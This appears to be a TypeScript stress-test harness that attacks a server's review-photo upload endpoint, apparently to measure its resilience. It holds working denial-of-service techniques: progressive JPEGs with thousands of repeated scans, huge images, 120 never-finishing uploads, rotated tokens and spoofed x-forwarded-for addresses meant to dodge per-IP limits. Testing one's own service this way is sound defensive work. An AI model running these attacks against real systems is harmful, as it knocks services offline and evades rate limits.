import { once } from 'node:events'
import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import sharp from 'sharp'

/**
 * The most costly uploads that a customer's account can send as photos of reviews. Each value builds the picture; null stands for uploads
 * that never end.
 */
export const pictureAttacks = {
  'unfinished uploads of 9.9 MB, 120 at once': null,
  'JPEG of 8,000 scans, 32 at once': () => scans(200, 150, 8000),
  'JPEG of 40 megapixels in 100 scans, 32 at once': () => scans(7000, 5700, 90),
  'PNG of 20 megapixels, 32 at once': async () => await plain(5000, 4000).png({ compressionLevel: 1 }).toBuffer(),
}
export type PictureAttack = keyof typeof pictureAttacks

const UNFINISHED = 120
const AT_ONCE = 32

function plain(width: number, height: number) {
  return sharp({ create: { width, height, channels: 3, background: { r: 9, g: 99, b: 199 } } })
}

/** Returns a progressive JPEG whose second scan is repeated `more` times. */
async function scans(width: number, height: number, more: number): Promise<Buffer> {
  const jpeg = await plain(width, height).jpeg({ progressive: true }).toBuffer()
  const marker = Buffer.from([0xff, 0xda])
  const start = jpeg.indexOf(marker, jpeg.indexOf(marker) + 2)
  const scan = jpeg.subarray(start, jpeg.indexOf(marker, start + 2))
  return Buffer.concat([jpeg.subarray(0, start), ...Array.from({ length: more }, () => scan), jpeg.subarray(start)])
}

/** Bandwidth of the attackers in bytes per millisecond (1 Gbit/s): loopback would carry more than any network. */
const LINE = 125_000
let lineFreeAt = 0
/** Waits until the attackers' shared bandwidth has carried so many further bytes. */
async function carry(bytes: number): Promise<void> {
  lineFreeAt = Math.max(lineFreeAt, performance.now()) + bytes / LINE
  await pause(Math.max(0, lineFreeAt - performance.now()))
}

const CHUNK = Buffer.alloc(99_000)
const addressOf = (nth: number) => `203.0.113.${1 + (nth % 10)}`

/** Sends an upload without its last bytes, again and again: the next one begins when the server has closed the connection. */
async function keepUnfinished(address: string, token: string, nth: number): Promise<void> {
  const { hostname, port } = new URL(address)
  for (;;) {
    const socket = connect(Number(port), hostname)
    socket.on('error', () => {})
    socket.resume()
    socket.write(
      `POST /files?kind=reviews HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${token}\r\nx-forwarded-for: ${addressOf(nth)}\r\n` +
        `content-type: multipart/form-data; boundary=x\r\ncontent-length: 10000000\r\n\r\n` +
        `--x\r\ncontent-disposition: form-data; name="file"; filename="1.png"\r\ncontent-type: image/png\r\n\r\n`,
    )
    const closed = once(socket, 'close')
    for (let sent = 0; sent < 9_900_000 && !socket.destroyed; sent += CHUNK.length) {
      await carry(CHUNK.length)
      socket.write(CHUNK)
    }
    await closed
    await pause(200)
  }
}

async function keepSending(address: string, tokens: readonly string[], picture: Buffer<ArrayBuffer>, nth: number): Promise<void> {
  for (let round = 0; ; round++) {
    const form = new FormData()
    form.append('file', new Blob([picture]), '1.jpg')
    await carry(picture.length)
    const token = tokens[(nth + round * AT_ONCE) % tokens.length]!
    const headers = { authorization: `Bearer ${token}`, 'x-forwarded-for': addressOf(nth) }
    const answer = await fetch(`${address}/files?kind=reviews`, { method: 'POST', headers, body: form }).catch(() => null)
    await answer?.text()
    if (answer?.ok !== true) await pause(200)
  }
}

if (import.meta.main) {
  const [tokens] = (await once(process, 'message')) as [string[]]
  const [, , address = '', name = ''] = process.argv
  const make = pictureAttacks[name as PictureAttack]
  if (make === null) for (let nth = 0; nth < UNFINISHED; nth++) void keepUnfinished(address, tokens[nth % tokens.length]!, nth)
  else {
    const picture = Buffer.from(await make())
    for (let nth = 0; nth < AT_ONCE; nth++) void keepSending(address, tokens, picture, nth)
  }
  await pause(1000)
  process.send!('begun')
}
